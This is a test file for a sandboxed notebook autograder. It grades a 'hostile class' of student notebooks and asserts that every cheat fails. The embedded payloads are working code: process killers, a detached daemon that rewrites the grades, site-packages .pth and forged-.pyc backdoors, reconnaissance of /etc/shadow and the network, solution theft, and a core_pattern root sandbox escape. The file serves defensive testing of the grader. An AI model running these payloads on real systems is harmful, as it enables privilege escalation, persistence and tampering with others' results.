"""Issue 24: a hostile class. Every cheat of the issue is a student of one class graded with
`python -m panpriv_teach grade` (the sandbox on, two jobs) in a release copy of the course
(whose manifest the grader checks), beside honest classmates whose results must be exactly
those of an honest-only grading before it, and of a second one after it; the cheaters get
nothing unearned, the class finishes within its budgets, and nothing of the course, the
Python environment, the submissions or the outputs is changed by any student.

Time limits (load-proof, 3 CPU-burning processes on 2 cores): an honest notebook of these
modules grades in at most 5 s unloaded, about 12 s under that load; the class runs with 15 s
per cell and 25 s per notebook, so no honest notebook comes near a limit, while the sleeping
cheater (three cells sleeping for days) is stopped by its notebook budget at 25 s, about when
the other job has graded the rest of the class.
"""
from __future__ import annotations

import csv
import hashlib
import importlib.util
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from panpriv_teach.classroom.release import release
from test_grading_support import ROOT, sandbox_or_skip, student_notebook, write

PYTHON = sys.executable
CELL, NOTEBOOK = 15, 25           # seconds: --timeout and --notebook-seconds of the class
SLEEPER = "a_sleeper"             # sorts first: graded first, its 25 s overlap the others
DAEMON = "pvcheatdaemon"          # the process name a detached cheater gives itself
CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")   # what the kernel runs for a core dump


def grade(course: Path, subs: Path, out: Path, *extra, env=None):
    """`python -m panpriv_teach grade` as an instructor types it in the course folder."""
    done = subprocess.run([PYTHON, "-m", "panpriv_teach", "grade", str(subs), "--out", str(out),
                           "--jobs", "2", "--timeout", str(CELL), "--notebook-seconds",
                           str(NOTEBOOK), *extra], cwd=course, capture_output=True, text=True,
                          timeout=900, env=env)
    return done.returncode, done.stdout + done.stderr


def rows(out: Path) -> dict:
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        found = {}
        for r in csv.DictReader(handle):
            found.setdefault(r["student"], []).append((r["exercise"], r["status"],
                                                       r["diagnosis"]))
        return found


def digest(folder: Path, skip=("__pycache__",)) -> dict:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*"))
            if p.is_file() and not set(skip) & set(p.relative_to(folder).parts)}


def site_packages() -> list:
    return [p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p)]


def processes_named(name: str) -> list:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if Path(f"/proc/{pid}/comm").read_text().strip() == name:
                found.append(int(pid))
        except OSError:
            pass
    return found


# ---------------------------------------------------------------- the students

HONEST = {   # student: (module, answers)
    "ada": ("05_ppcum", {}),
    "bob": ("05_ppcum", {"5.1": "def erased_after(t, T):\n    return set()", "5.3": "stub"}),
    "cleo": ("02_randomized_response", {}),
}
EXPECTED_HONEST = {
    "ada": {n: "passed" for n in ("5.1", "5.2", "5.3", "5.4", "5.5")},
    "bob": {"5.1": "failed", "5.2": "passed", "5.3": "not attempted", "5.4": "passed",
            "5.5": "passed"},
    "cleo": {n: "passed" for n in ("2.1", "2.2", "2.3", "2.4", "2.5", "2.6")},
}


def kill_class(mark: str, sig: str) -> str:
    """Code that sends `sig` to every process it can see that descends from this class's
    grader (whose command line holds `mark`): the grader, its jobs, their workers."""
    return (f"import os, signal, time\n"
            f"def _ours(pid):\n"
            f"    while pid > 1:\n"
            f"        try:\n"
            f"            if {mark!r} in open(f'/proc/{{pid}}/cmdline').read():\n"
            f"                return True\n"
            f"            stat = open(f'/proc/{{pid}}/stat').read()\n"
            f"            pid = int(stat.rsplit(')', 1)[1].split()[1])\n"
            f"        except (OSError, ValueError):\n"
            f"            return False\n"
            f"    return False\n"
            f"def attack():\n"
            f"    for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
            f"        if pid != os.getpid() and _ours(pid):\n"
            f"            try:\n"
            f"                os.kill(pid, signal.{sig})\n"
            f"            except OSError:\n"
            f"                pass\n"
            f"attack()\n")


def root_escape(marker: Path, site: str) -> str:
    """The red team's escape of a sandbox whose code runs as the host's root: core_pattern
    set to a pipe into a script in the sandbox's /tmp, then an aborted child, so that the
    kernel runs the script as root outside the sandbox; it would copy the solutions in, mark
    the host and plant a .pth in the Python environment, then exec the answers after every
    cell."""
    helper = ("#!/bin/sh\n"
              f"cp {ROOT}/solutions/05_ppcum.ipynb /proc/$1/root/tmp/solution.ipynb\n"
              f"echo escaped > {marker}\n"
              f"echo 'import os' > {site}/zz_panpriv_cheat.pth\n"
              "echo core > /proc/sys/kernel/core_pattern\n")
    return ("import json, os\n"
            f"open('/tmp/h.sh', 'w').write({helper!r})\n"
            "os.chmod('/tmp/h.sh', 0o755)\n"
            "old = open('/proc/sys/kernel/core_pattern').read()\n"
            "try:\n"
            "    with open('/proc/sys/kernel/core_pattern', 'w') as f:\n"
            "        f.write('|/proc/%P/root/tmp/h.sh %P')\n"
            "    child = os.fork()\n"
            "    if child == 0:\n"
            "        os.abort()\n"
            "    os.waitpid(child, 0)\n"
            "finally:\n"
            "    with open('/proc/sys/kernel/core_pattern', 'w') as f:\n"
            "        f.write(old)\n"
            "solution = json.load(open('/tmp/solution.ipynb'))\n"
            "CODE = '\\n'.join(''.join(c['source']) for c in solution['cells']\n"
            "                  if 'BEGIN SOLUTION' in ''.join(c['source']))\n"
            "ip = get_ipython()\n"
            "ip.events.register('post_run_cell', lambda result: exec(CODE, ip.user_ns))\n")


def cheaters(course: Path, subs: Path, out: Path) -> dict:
    """student: (module, answers, extra cells after a check) for every cheat of the issue."""
    checker = course / "panpriv_teach" / "exercises" / "ppcum.py"
    forged_pyc = importlib.util.cache_from_source(str(checker))
    mark = str(subs)
    recon_paths = [str(subs), str(out.parent), str(course), str(ROOT / "solutions"),
                   str(ROOT / "pyproject.toml"), "/etc/shadow", "/etc/passwd"]
    writable = [*site_packages(), str(course / "panpriv_teach"), "/course/panpriv_teach"]
    return {
        # --- harm to others
        "overwriter": ("05_ppcum", {}, {"5.1": (
            "import glob, os\n"
            f"for root in ({str(subs)!r}, {str(course)!r}, {str(ROOT)!r}, '/tmp'):\n"
            "    for path in glob.glob(root + '/**/*.ipynb', recursive=True):\n"
            "        try:\n"
            "            open(path, 'w').write('{\"cells\": []}')\n"
            "        except OSError:\n"
            "            pass")}),
        "killer": ("05_ppcum", {}, {"5.1": kill_class(mark, "SIGKILL"),
                                   "5.2": kill_class(mark, "SIGSTOP")}),
        "daemon": ("05_ppcum", {}, {"5.5": (   # detached: kills workers, rewrites grades
            kill_class(mark, "SIGKILL").rsplit("attack()", 1)[0] +
            "import ctypes, os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        ctypes.CDLL(None).prctl(15, {DAEMON.encode()!r})\n"
            "        for _ in range(120):\n"
            "            attack()\n"
            f"            for path in ({str(out / 'grades.csv')!r}, {str(out / 'grades.json')!r},"
            f" {str(out / 'feedback' / 'daemon.md')!r}):\n"
            "                try:\n"
            "                    open(path, 'w').write('daemon,5.1,passed,')\n"
            "                except OSError:\n"
            "                    pass\n"
            "            time.sleep(0.25)\n"
            "    os._exit(0)\n")}),
        # --- persistent backdoors
        "backdoor": ("05_ppcum", {}, {"5.1": (
            "import os, importlib._bootstrap_external as ext\n"
            "code = compile('exercise_5_1 = None', 'ppcum.py', 'exec')\n"
            f"source = {str(checker)!r}\n"
            "for target, data in (\n"
            f"        ({forged_pyc!r}, None),\n"
            + "".join(f"        ({os.path.join(p, 'zz_panpriv_cheat.pth')!r}, "
                      f"'import os; os.environ[\"CHEAT\"] = \"1\"\\n'),\n" for p in site_packages())
            + "        ):\n"
            "    try:\n"
            "        os.makedirs(os.path.dirname(target), exist_ok=True)\n"
            "        if data is None:\n"
            "            st = os.stat(source)\n"
            "            open(target, 'wb').write(ext._code_to_timestamp_pyc(code, st.st_mtime, "
            "st.st_size))\n"
            "        else:\n"
            "            open(target, 'w').write(data)\n"
            "    except OSError:\n"
            "        pass")}),
        "recon": ("05_ppcum", {"5.1": (
            "import json, os, socket\n"
            "def erased_after(t, T):\n"
            "    seen = {'pids': sorted(p for p in os.listdir('/proc') if p.isdigit()),\n"
            f"            'paths': [p for p in {recon_paths!r} if os.path.exists(p)],\n"
            f"            'writable': [p for p in {writable!r} if os.access(p, os.W_OK)]}}\n"
            "    try:\n"
            "        socket.create_connection(('1.1.1.1', 53), timeout=2).close()\n"
            "        seen['net'] = 'open'\n"
            "    except OSError:\n"
            "        seen['net'] = 'closed'\n"
            "    raise RuntimeError('RECON ' + json.dumps(seen))")}, {}),
        # --- unearned credit
        "borrower": ("05_ppcum", {n: "stub" for n in ("5.1", "5.2", "5.3", "5.4", "5.5")},
                     {"5.1": (   # runs the grading machine's own solutions
                         "import json\n"
                         f"_nb = {str(ROOT / 'solutions' / '05_ppcum.ipynb')!r}\n"
                         "for _c in json.load(open(_nb))['cells']:\n"
                         "    _code = ''.join(_c['source'])\n"
                         "    if _c['cell_type'] == 'code' and 'check.' not in _code:\n"
                         "        exec(_code)")}),
        "evader": ("05_ppcum", {
            "5.1": ("import importlib, panpriv_teach.ppcum as _p\n"
                    "importlib.reload(_p)\n"
                    "erased_after = getattr(_p, 'erased' + '_nodes')"),
            "5.2": ("import inspect, panpriv_teach.ppcum as _p\n"
                    "_ns = dict(vars(_p))\n"
                    "exec(inspect.getsource(_p), _ns)\n"
                    "def view_after(x, N, N_I, T):\n"
                    "    return _ns['ppcum' + '_view'](x, T, N, N_I)"),
            "5.3": ("import panpriv_teach.ppcum as _p\n"
                    "_f = getattr(_p, 'coupling' + '_shift')\n"
                    "while getattr(_f, '__closure__', None):\n"
                    "    _f = _f.__closure__[0].cell_contents\n"
                    "coupling = _f"),
            "5.4": ("import sys\n"
                    "sys.modules.pop('panpriv_teach.classroom.grading.worker', None)\n"
                    "try:\n"
                    "    from panpriv_teach.classroom.grading import worker as _w\n"
                    "    _w.REACHED.clear()\n"
                    "except Exception:\n"
                    "    pass\n"
                    f"_src = open({str(ROOT / 'panpriv_teach' / 'continual.py')!r}).read()\n"
                    "_ns = {}\n"
                    "exec(_src, _ns)\n"
                    "def claim(eps):\n"
                    "    return _ns['claim' + '_7_1'](eps)")}, {}),
        "helper": ("01_dp_basics", {"1.7": (
            "import panpriv_teach.attacks as _a\n"
            "def could_produce(release, value, sensitivity, epsilon):\n"
            "    return getattr(_a, '_can' + '_produce')(release, value, sensitivity / epsilon)")},
                   {}),
        "auditor": ("02_randomized_response", {"2.3": (
            "import importlib\n"
            "_audit = importlib.import_module('panpriv_teach.' + 'audit')\n"
            "def channel_epsilon(channel):\n"
            "    return getattr(_audit, 'exact' + '_epsilon')(channel)")}, {}),
        # --- resources
        SLEEPER: ("05_ppcum", {}, {"5.1": "import time\ntime.sleep(10**6)",
                                    "5.2": "import time\ntime.sleep(10**6)",
                                    "5.3": "import time\ntime.sleep(10**6)"}),
        "crasher": ("05_ppcum", {}, {n: "import time, os\ntime.sleep(1)\nos._exit(1)"
                                     for n in ("5.1", "5.2", "5.3", "5.4", "5.5")}),
        "fraction": ("05_ppcum", {"5.4": (
            "from fractions import Fraction\n"
            "def claim(eps):\n"
            "    f = Fraction(1, 2)\n"
            "    k = (1 << 2**24) + 1\n"
            "    f._numerator, f._denominator = k * 7, k * 14    # 2 MB each, unreduced\n"
            "    return {'blank': f, 'repeat': f, 'first': f}")}, {}),
        "lazy": ("05_ppcum", {"5.1": "def erased_after(t, T):\n    return range(10**8)"}, {}),
        # --- out of the sandbox through the kernel
        "rooter": ("05_ppcum", {n: "stub" for n in ("5.1", "5.2", "5.3", "5.4", "5.5")},
                   {"5.1": root_escape(out.parent / "ESCAPED", site_packages()[0])}),
    }


CHEATED = {   # student: exercises whose status must not be "passed"
    "borrower": ("5.1", "5.2", "5.3", "5.4", "5.5"), "evader": ("5.1", "5.2", "5.3", "5.4"),
    "helper": ("1.7",), "auditor": ("2.3",), "fraction": ("5.4",), "lazy": ("5.1",),
    "recon": ("5.1",), "rooter": ("5.2", "5.3", "5.4", "5.5"),
}


def write_class(subs: Path, students: dict) -> None:
    for student, spec in students.items():
        module, answers, *extra = spec
        write(student_notebook(module, answers=answers, extra=extra[0] if extra else None),
              subs / student, module)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A release copy of the course: what an instructor may grade in (its manifest has a
    SHA-256 per file)."""
    sandbox_or_skip()
    return release(ROOT, tmp_path_factory.mktemp("release") / "course")


@pytest.fixture(scope="module")
def graded(course, tmp_path_factory):
    """Honest-only grading, then the hostile class, then honest-only again."""
    root = tmp_path_factory.mktemp("hostile")
    honest = root / "honest"
    write_class(honest, HONEST)
    before_course = digest(course)
    code_a, text_a = grade(course, honest, root / "out_a")
    subs, out = root / "submissions", root / "out"
    write_class(subs, HONEST)
    write_class(subs, cheaters(course, subs, out))
    (subs / "linker").mkdir()
    (subs / "linker" / "05_ppcum.ipynb").symlink_to(ROOT / "solutions" / "05_ppcum.ipynb")
    (subs / "mirror").symlink_to(subs / "ada", target_is_directory=True)
    before_subs = digest(subs)
    core_pattern = CORE_PATTERN.read_text()
    started = time.monotonic()
    code_b, text_b = grade(course, subs, out)
    seconds = time.monotonic() - started
    after_exit = digest(out)
    found = dict(code_a=code_a, text_a=text_a, rows_a=rows(root / "out_a"), code_b=code_b,
                 text_b=text_b, rows_b=rows(out), seconds=seconds, out=out,
                 grades=json.loads((out / "grades.json").read_text()))
    ended = time.monotonic()
    code_c, text_c = grade(course, honest, root / "out_c")
    time.sleep(max(0.0, ended + 2 - time.monotonic()))   # 2 s or more after the class ended,
    found.update(code_c=code_c, text_c=text_c, rows_c=rows(root / "out_c"),  # a detached
                 outputs_stable=digest(out) == after_exit,   # process would have rewritten
                 daemons=processes_named(DAEMON),            # the outputs
                 subs_unchanged=digest(subs) == before_subs,
                 course_unchanged=digest(course) == before_course,
                 core_pattern_kept=CORE_PATTERN.read_text() == core_pattern,
                 escaped=(root / "ESCAPED").exists())
    planted = [p for p in site_packages() if (Path(p) / "zz_panpriv_cheat.pth").exists()]
    for p in planted:                # never left behind, even when the test fails
        (Path(p) / "zz_panpriv_cheat.pth").unlink()
    found["planted"] = planted
    return found


def statuses_of(table, student):
    return {e: s for e, s, _ in table[student] if e}


def test_honest_students_grade_exactly_as_without_the_cheaters_before_and_after(graded):
    assert graded["code_a"] == 0, graded["text_a"]
    assert graded["code_c"] == 0, graded["text_c"]
    for student, expected in EXPECTED_HONEST.items():
        assert statuses_of(graded["rows_a"], student) == expected
        assert graded["rows_b"][student] == graded["rows_a"][student], student
        assert graded["rows_c"][student] == graded["rows_a"][student], student


def test_the_hostile_class_completes_within_its_budgets_and_exits_0(graded):
    """Nothing was killed from outside (the killers reached no one), the sleeper is over its
    notebook budget, and the whole class took less than two notebook budgets per job."""
    assert graded["code_b"] == 0, graded["text_b"]
    assert "sandbox: bubblewrap" in graded["text_b"] and "FAILED" not in graded["text_b"]
    assert f"over budget: {SLEEPER}/05_ppcum.ipynb: the notebook used its budget of " \
           f"{NOTEBOOK} s of wall time" in graded["text_b"]
    sleeper = statuses_of(graded["rows_b"], SLEEPER)
    assert sleeper["5.1"] == "passed" and sleeper["5.5"] == "over budget"
    assert graded["grades"]["notebooks"][SLEEPER][0]["seconds"] < NOTEBOOK + 5
    assert graded["seconds"] < 8 * NOTEBOOK
    assert graded["grades"]["run"]["problems"] == []


@pytest.mark.parametrize("student", sorted(CHEATED))
def test_a_cheater_gets_nothing_unearned(graded, student):
    got = statuses_of(graded["rows_b"], student)
    assert all(got[n] != "passed" for n in CHEATED[student]), got


def test_nobody_outside_its_sandbox_was_touched(graded):
    """The overwriter, the killers, the daemon and the backdoors changed nothing: the
    submissions, the course, the outputs after the grader ended, the Python environment."""
    assert graded["subs_unchanged"] and graded["course_unchanged"]
    assert graded["outputs_stable"] and graded["daemons"] == []
    assert graded["planted"] == []
    assert graded["core_pattern_kept"] and not graded["escaped"]      # the rooter
    assert all(s == "passed" for s in statuses_of(graded["rows_b"], "overwriter").values())


def test_inside_the_sandbox_a_notebook_sees_itself_only(graded):
    """The recon student reports what its answer could see: one process (itself, pid 1; as
    root, the worker's root half too, which only waits for it), no path of the grading
    machine, nothing writable but its own /tmp, no network."""
    diagnosis = next(d for e, _, d in graded["rows_b"]["recon"] if e == "5.1")
    seen = json.loads(diagnosis.split("RECON ", 1)[1].split("\n")[0].rsplit("}", 1)[0] + "}")
    pids = ["1", "2"] if os.geteuid() == 0 else ["1"]
    assert seen == {"pids": pids, "paths": [], "writable": [], "net": "closed"}


def test_the_library_holds_no_answer_only_stubs_naming_the_exercise(graded):
    diagnoses = {e: d for e, _, d in graded["rows_b"]["evader"]}
    for number, name in (("5.1", "ppcum.erased_nodes"), ("5.3", "ppcum.coupling_shift")):
        assert f"panpriv_teach.{name} is not available while grading: exercise {number} " \
               "asks you to write it" in diagnoses[number]
    helper = {e: d for e, _, d in graded["rows_b"]["helper"]}["1.7"]
    assert "has no attribute '_can_produce'" in helper      # the private helper is gone too


def test_oversized_and_lazy_answers_are_diagnosed_not_computed(graded):
    fraction = {e: d for e, _, d in graded["rows_b"]["fraction"]}["5.4"]
    assert "returned an integer of 16,777,219 bits: the grader accepts at most 65,536" in fraction
    lazy = {e: d for e, _, d in graded["rows_b"]["lazy"]}["5.1"]
    assert "returned an object of type range" in lazy


def test_crash_and_replay_is_bounded(graded):
    crasher = graded["grades"]["notebooks"]["crasher"][0]
    assert crasher["seconds"] < NOTEBOOK
    assert any("stopped the Python process 4 times" in p for p in crasher["problems"])


def test_linked_submissions_are_refused(graded):
    assert graded["rows_b"]["linker"] == [("", "error", "05_ppcum.ipynb is a symbolic link: "
                                           "hand in the file itself; it was not graded")]
    assert graded["rows_b"]["mirror"] == [("", "error", "mirror is a symbolic link, not a "
                                           "student's folder; it was not graded")]


# ---------------------------------------------------------------- the installation

def forge_checker_pyc(course: Path) -> Path:
    """A bytecode file for the checker of module 05 whose every check passes, stamped with
    the source's time and size, as a cheat graded without a sandbox could leave it."""
    source = course / "panpriv_teach" / "exercises" / "ppcum.py"
    text = source.read_text() + ("\nfor _c in list(globals().values()):\n"
                                 "    if hasattr(_c, 'verdict'):\n"
                                 "        _c.verdict = lambda answer: 'forged pass'\n")
    from importlib._bootstrap_external import _code_to_timestamp_pyc
    st = source.stat()
    pyc = Path(importlib.util.cache_from_source(str(source)))
    pyc.parent.mkdir(exist_ok=True)
    pyc.write_bytes(_code_to_timestamp_pyc(compile(text, str(source), "exec"), st.st_mtime,
                                           st.st_size))
    return pyc


def test_a_planted_checker_bytecode_is_never_read_by_the_grader(course, tmp_path):
    copy = Path(shutil.copytree(course, tmp_path / "course"))
    forge_checker_pyc(copy)
    probe = subprocess.run([PYTHON, "-c", "from panpriv_teach.exercises import ppcum; "
                            "print(ppcum.exercise_5_1.verdict(None))"], cwd=copy,
                           capture_output=True, text=True)
    assert probe.stdout.strip() == "forged pass"       # a plain import would use it
    write_class(tmp_path / "subs", {"blank": ("05_ppcum", {n: "stub" for n in
                                                          ("5.1", "5.2", "5.3", "5.4", "5.5")})})
    code, text = grade(copy, tmp_path / "subs", tmp_path / "out")
    assert code == 0, text
    assert set(statuses_of(rows(tmp_path / "out"), "blank").values()) == {"not attempted"}


@pytest.mark.parametrize("change", ["edited checker", "planted module", "extension module"])
def test_sources_that_differ_from_the_manifest_are_refused(course, tmp_path, change):
    copy = Path(shutil.copytree(course, tmp_path / "course"))
    exercises = copy / "panpriv_teach" / "exercises"
    name = {"edited checker": "ppcum.py", "planted module": "extra.py",
            "extension module": f"ppcum{importlib.machinery.EXTENSION_SUFFIXES[0]}"}[change]
    with open(exercises / name, "a") as handle:
        handle.write("\n# changed\n")
    write_class(tmp_path / "subs", {"ada": HONEST["ada"]})
    code, text = grade(copy, tmp_path / "subs", tmp_path / "out")
    assert code == 2 and "nothing was graded" in text
    assert f"panpriv_teach/exercises/{name} " in text
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- no sandbox, budgets, kills

def test_without_bwrap_grade_refuses_and_says_how_to_get_it(course, tmp_path):
    """A machine without bubblewrap (simulated: a PATH without bwrap) is refused; with
    --no-sandbox the same class is graded and the summary says so."""
    write_class(tmp_path / "subs", {"ada": HONEST["ada"]})
    env = dict(os.environ, PATH=str(tmp_path / "no-bwrap-here"))
    code, text = grade(course, tmp_path / "subs", tmp_path / "out", env=env)
    assert code == 2
    for words in ("bubblewrap (`bwrap`), and this machine has none",
                  "sudo apt-get install bubblewrap", "sudo dnf install bubblewrap",
                  "Grading on macOS or Windows", "--no-sandbox"):
        assert words in text
    assert not (tmp_path / "out").exists()
    code, text = grade(course, tmp_path / "subs", tmp_path / "out", "--no-sandbox", env=env)
    assert code == 0, text
    assert "WITHOUT A SANDBOX" in text and "sandbox: none (--no-sandbox" in text
    assert set(statuses_of(rows(tmp_path / "out"), "ada").values()) == {"passed"}
    grades = json.loads((tmp_path / "out" / "grades.json").read_text())
    assert grades["run"]["sandbox"].startswith("none")


def test_a_class_over_its_budget_reports_the_notebooks_left_and_exits_1(course, tmp_path):
    """Six notebooks, one job, a class budget of a few seconds: the first notebook sleeps
    past the budget (so that it runs out however fast the machine grades) and is cut, the
    rest are over budget; the run says so and fails."""
    sleeper = ("05_ppcum", {}, {"5.1": "import time\ntime.sleep(20)"})
    write_class(tmp_path / "subs", {f"s{i}": sleeper if i == 0 else HONEST["ada"] for i in range(6)})
    code, text = grade(course, tmp_path / "subs", tmp_path / "out", "--jobs", "1",
                       "--budget", "3")
    assert code == 1, text
    table = rows(tmp_path / "out")
    assert statuses_of(table, "s5") == {n: "over budget" for n in EXPECTED_HONEST["ada"]}
    assert "the class's budget ran out before this notebook's turn" in table["s5"][0][2]
    assert "over budget: s5/05_ppcum.ipynb: the class's budget ran out" in text


def test_a_worker_killed_from_outside_fails_the_run_and_names_the_notebook(course, tmp_path):
    """The test kills one sandbox from outside (as the system or another user could): that
    notebook is reported, the class goes on, and grade exits 1. The victim's worker names
    itself (its process name, visible from outside) and sleeps, so the test finds it."""
    write_class(tmp_path / "subs", {
        "ada": HONEST["ada"],
        "victim": ("05_ppcum", {}, {"5.1": "import ctypes, time\n"
                                           "ctypes.CDLL(None).prctl(15, b'pvvictim')\n"
                                           "time.sleep(10)"})})
    killed = []

    def kill_the_victims_sandbox():
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline and not killed:
            for pid in processes_named("pvvictim"):
                try:
                    sandbox = pid
                    for _ in range(3):      # its parent (as root, its parent's): bwrap
                        stat = Path(f"/proc/{sandbox}/stat").read_text()
                        sandbox = int(stat.rsplit(")", 1)[1].split()[1])
                        if Path(f"/proc/{sandbox}/comm").read_text().strip() == "bwrap":
                            os.kill(sandbox, signal.SIGKILL)
                            killed.append(sandbox)
                            break
                except (OSError, ValueError):
                    pass
            time.sleep(0.1)

    thread = threading.Thread(target=kill_the_victims_sandbox, daemon=True)
    thread.start()
    code, text = grade(course, tmp_path / "subs", tmp_path / "out", "--jobs", "1")
    thread.join(5)
    assert killed, "the test found no sandbox to kill"
    assert code == 1, text
    assert "FAILED: victim/05_ppcum.ipynb: the Python process running its code was killed by " \
           "SIGKILL from outside the sandbox (not by a limit of the grader)" in text
    assert set(statuses_of(rows(tmp_path / "out"), "ada").values()) == {"passed"}


def test_a_million_references_to_one_large_fraction_cost_a_few_gcds_then_are_refused():
    """The red team's fraction bomb: one Fraction of two 65,536-bit terms, sent 1,999,000
    times by reference (a pickle memoises it: 10 MB on the wire). Each within the caps, all
    together they cost hours of gcd in the grader; the message's budget of bits beyond 64
    stops the decoding after MAX_BIG_BITS / 130,944 = 32 of them."""
    from fractions import Fraction

    from panpriv_teach.classroom.grading import wire
    big = [(1 << 65535) | 1, (1 << 65535) | 3]
    assert wire.decode([{"f": big}] * 32)[31] == Fraction(*big)
    with pytest.raises(wire.TooLarge):                    # the 33rd is past the budget
        wire.decode([{"f": big}] * 33)
    with pytest.raises(wire.TooLarge, match="beyond 64 in all: the grader accepts at most "
                                            "4,194,304"):
        wire.decode([{"f": big}] * 1_999_000)
